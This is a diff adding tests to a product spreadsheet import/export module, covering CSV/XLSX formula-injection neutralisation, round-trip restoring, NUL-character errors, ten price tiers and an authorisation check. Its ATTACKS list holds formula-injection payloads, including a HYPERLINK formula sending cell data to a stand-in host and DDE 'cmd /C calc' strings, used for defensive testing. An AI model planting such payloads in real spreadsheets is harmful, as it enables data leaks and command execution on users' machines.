@@ -1,10 +1,14 @@
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import ExcelJS from 'exceljs';
+import fc from 'fast-check';
 import { testEngines } from '../../core/db/testing.ts';
 import { AppError } from '../../core/errors.ts';
 import { tinyMarket, type Market } from '../../../test/fixtures.ts';
-import { exportProducts, importProducts, listProducts, parseCsv, csvLine, SPREADSHEET_COLUMNS } from './index.ts';
+import { createProduct, exportProducts, importProducts, listProducts, parseCsv, csvLine, SPREADSHEET_COLUMNS } from './index.ts';
+import { csvDocument, neutraliseCell, restoreCell } from '../../core/csv.ts';
+import { rowToInput, type ColumnKey } from './spreadsheet-columns.ts';
+import { sampleProduct } from '../../../test/fixtures.ts';
 
 const HEADER = SPREADSHEET_COLUMNS.map((c) => c.key);
 function row(leaf: string, sku: string, over: Record<string, string> = {}): string[] {
@@ -20,6 +24,27 @@ const csv = (rows: string[][]) => Buffer.from(csvLine(HEADER) + rows.map(csvLine
 
 test('CSV reader handles quotes, commas, newlines and a BOM', () => {
   assert.deepEqual(parseCsv('\uFEFFa,"b,c","d ""e""",\r\n"x\ny",2\n'), [['a', 'b,c', 'd "e"', ''], ['x\ny', '2']]);
+});
+
+const ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)', ' =1+1'];
+
+test('CSV export cells beginning with = + - @ TAB CR (or ＝＋－＠) get a leading apostrophe; numbers such as -12.5 do not', () => {
+  const [, row] = parseCsv(csvDocument(['a'], [[...ATTACKS, '-12.5', '+7', -12.5, 'plain', "'quoted"]]).toString('utf8'));
+  assert.deepEqual(row, [...ATTACKS.map((a) => `'${a}`), '-12.5', '+7', '-12.5', 'plain', "'quoted"]);
+});
+
+test('import undoes the export neutralisation exactly, for every string (apostrophes included)', () => {
+  const piece = fc.constantFrom("'", '=', '+', '-', '@', '＝', '\t', '\r', ' ', 'a', '1', '.', '保');
+  fc.assert(fc.property(fc.array(piece, { maxLength: 8 }).map((p) => p.join('')), (s) => restoreCell(neutraliseCell(s)) === s), { numRuns: 2000 });
+  assert.equal(restoreCell("'abc"), "'abc", 'an apostrophe not before a formula trigger is kept');
+  assert.equal(restoreCell("'=1+1"), '=1+1');
+});
+
+test('a sheet cell holding a NUL character is a row error naming the column, not a 500', () => {
+  const cells: Partial<Record<ColumnKey, string>> = { sku: 'N-1', title_zh: '保温\u0000杯', moq: '1', price_1: '1', unit: 'pcs' };
+  const res = rowToInput((k) => cells[k] ?? '', 7, () => '010101');
+  assert.deepEqual(res.errors.map((e) => [e.row, e.column]), [[7, 'title_zh']]);
+  assert.match(res.errors[0]!.reason, /contains a NUL character/);
 });
 
 for (const engine of testEngines()) {
@@ -108,6 +133,61 @@ for (const engine of testEngines()) {
         assert.equal(await count(), n);
       });
     }
+
+    test('a title =HYPERLINK(…) and other formula text export as text (csv: apostrophe; xlsx: string cell, no formula) and import back unchanged', async () => {
+      const p = await createProduct(m.d.db, m.merchant, {
+        ...sampleProduct(m.categoryLeaf, '-INJ-1'), titleEn: ATTACKS[0], titleZh: '＝1+1 保温杯', descriptionEn: ATTACKS[3], attributes: { '@cmd': ATTACKS[1]!, note: '=1+1' },
+      });
+      const csvFile = await exportProducts(m.d.db, m.merchant, 'csv');
+      const [header, ...rows] = parseCsv(csvFile.toString('utf8'));
+      const cell = (k: string) => rows.find((r) => r[0] === "'-INJ-1")![header!.indexOf(k)];
+      assert.equal(cell('title_en'), `'${ATTACKS[0]}`);
+      assert.equal(cell('title_zh'), "'＝1+1 保温杯");
+      assert.equal(cell('description_en'), `'${ATTACKS[3]}`);
+      assert.equal(cell('attributes'), `'@cmd=${ATTACKS[1]}; note==1+1`);
+      assert.equal(cell('price_1'), '12.50');
+      const xlsxFile = await exportProducts(m.d.db, m.merchant, 'xlsx');
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.load(xlsxFile as unknown as ArrayBuffer);
+      const ws = wb.worksheets[0]!;
+      const titleCol = HEADER.indexOf('title_en') + 1;
+      let found = 0;
+      ws.eachRow((r) => {
+        r.eachCell((c) => assert.ok(c.type !== ExcelJS.ValueType.Formula && c.formula === undefined, `no formula cells (${String(c.address)})`));
+        if (r.getCell(1).value === '-INJ-1') {
+          found++;
+          assert.equal(r.getCell(titleCol).type, ExcelJS.ValueType.String);
+          assert.equal(r.getCell(titleCol).value, ATTACKS[0]);
+        }
+      });
+      assert.equal(found, 1);
+      for (const [format, file] of [['csv', csvFile], ['xlsx', xlsxFile]] as const) {
+        await importProducts(m.d.db, m.merchant, file, format);
+        const back = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items.find((x) => x.id === p.id)!;
+        assert.deepEqual([back.titleEn, back.titleZh, back.descriptionEn, back.attributes], [p.titleEn, p.titleZh, p.descriptionEn, p.attributes], format);
+      }
+    });
+
+    test('a product with ten price tiers exports all ten and imports back with all ten (tiers 6–10 were dropped)', async () => {
+      const tiers = Array.from({ length: 10 }, (_, i) => ({ minQty: 100 * (i + 1), unitPrice: 2000 - 100 * i }));
+      const p = await createProduct(m.d.db, m.merchant, { ...sampleProduct(m.categoryLeaf, 'TEN-1'), priceTiers: tiers });
+      for (const format of ['csv', 'xlsx'] as const) {
+        await importProducts(m.d.db, m.merchant, await exportProducts(m.d.db, m.merchant, format), format);
+        const back = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items.find((x) => x.id === p.id)!;
+        assert.deepEqual(back.priceTiers, tiers, format);
+      }
+    });
+
+    test('the operator cannot import goods for a buyer entity: 4xx and nothing written', async () => {
+      const buyerId = m.buyer.entityId!;
+      const goods = async () => Number((await m.d.db.selectFrom('products').select((eb) => eb.fn.countAll<number>().as('n')).where('merchant_id', '=', buyerId).executeTakeFirstOrThrow()).n);
+      await assert.rejects(importProducts(m.d.db, m.operator, csv([row(m.categoryLeaf, 'FOR-BUYER-1')]), 'csv', { merchantId: buyerId }), (e: AppError) => {
+        assert.equal(e.code, 'VALIDATION');
+        assert.match(e.message, /not a merchant/);
+        return true;
+      });
+      assert.equal(await goods(), 0);
+    });
 
     test('thousands of rows import in batches inside one transaction', async () => {
       const rows = Array.from({ length: 3000 }, (_, i) => row(m.categoryLeaf, `BULK-${i}`));
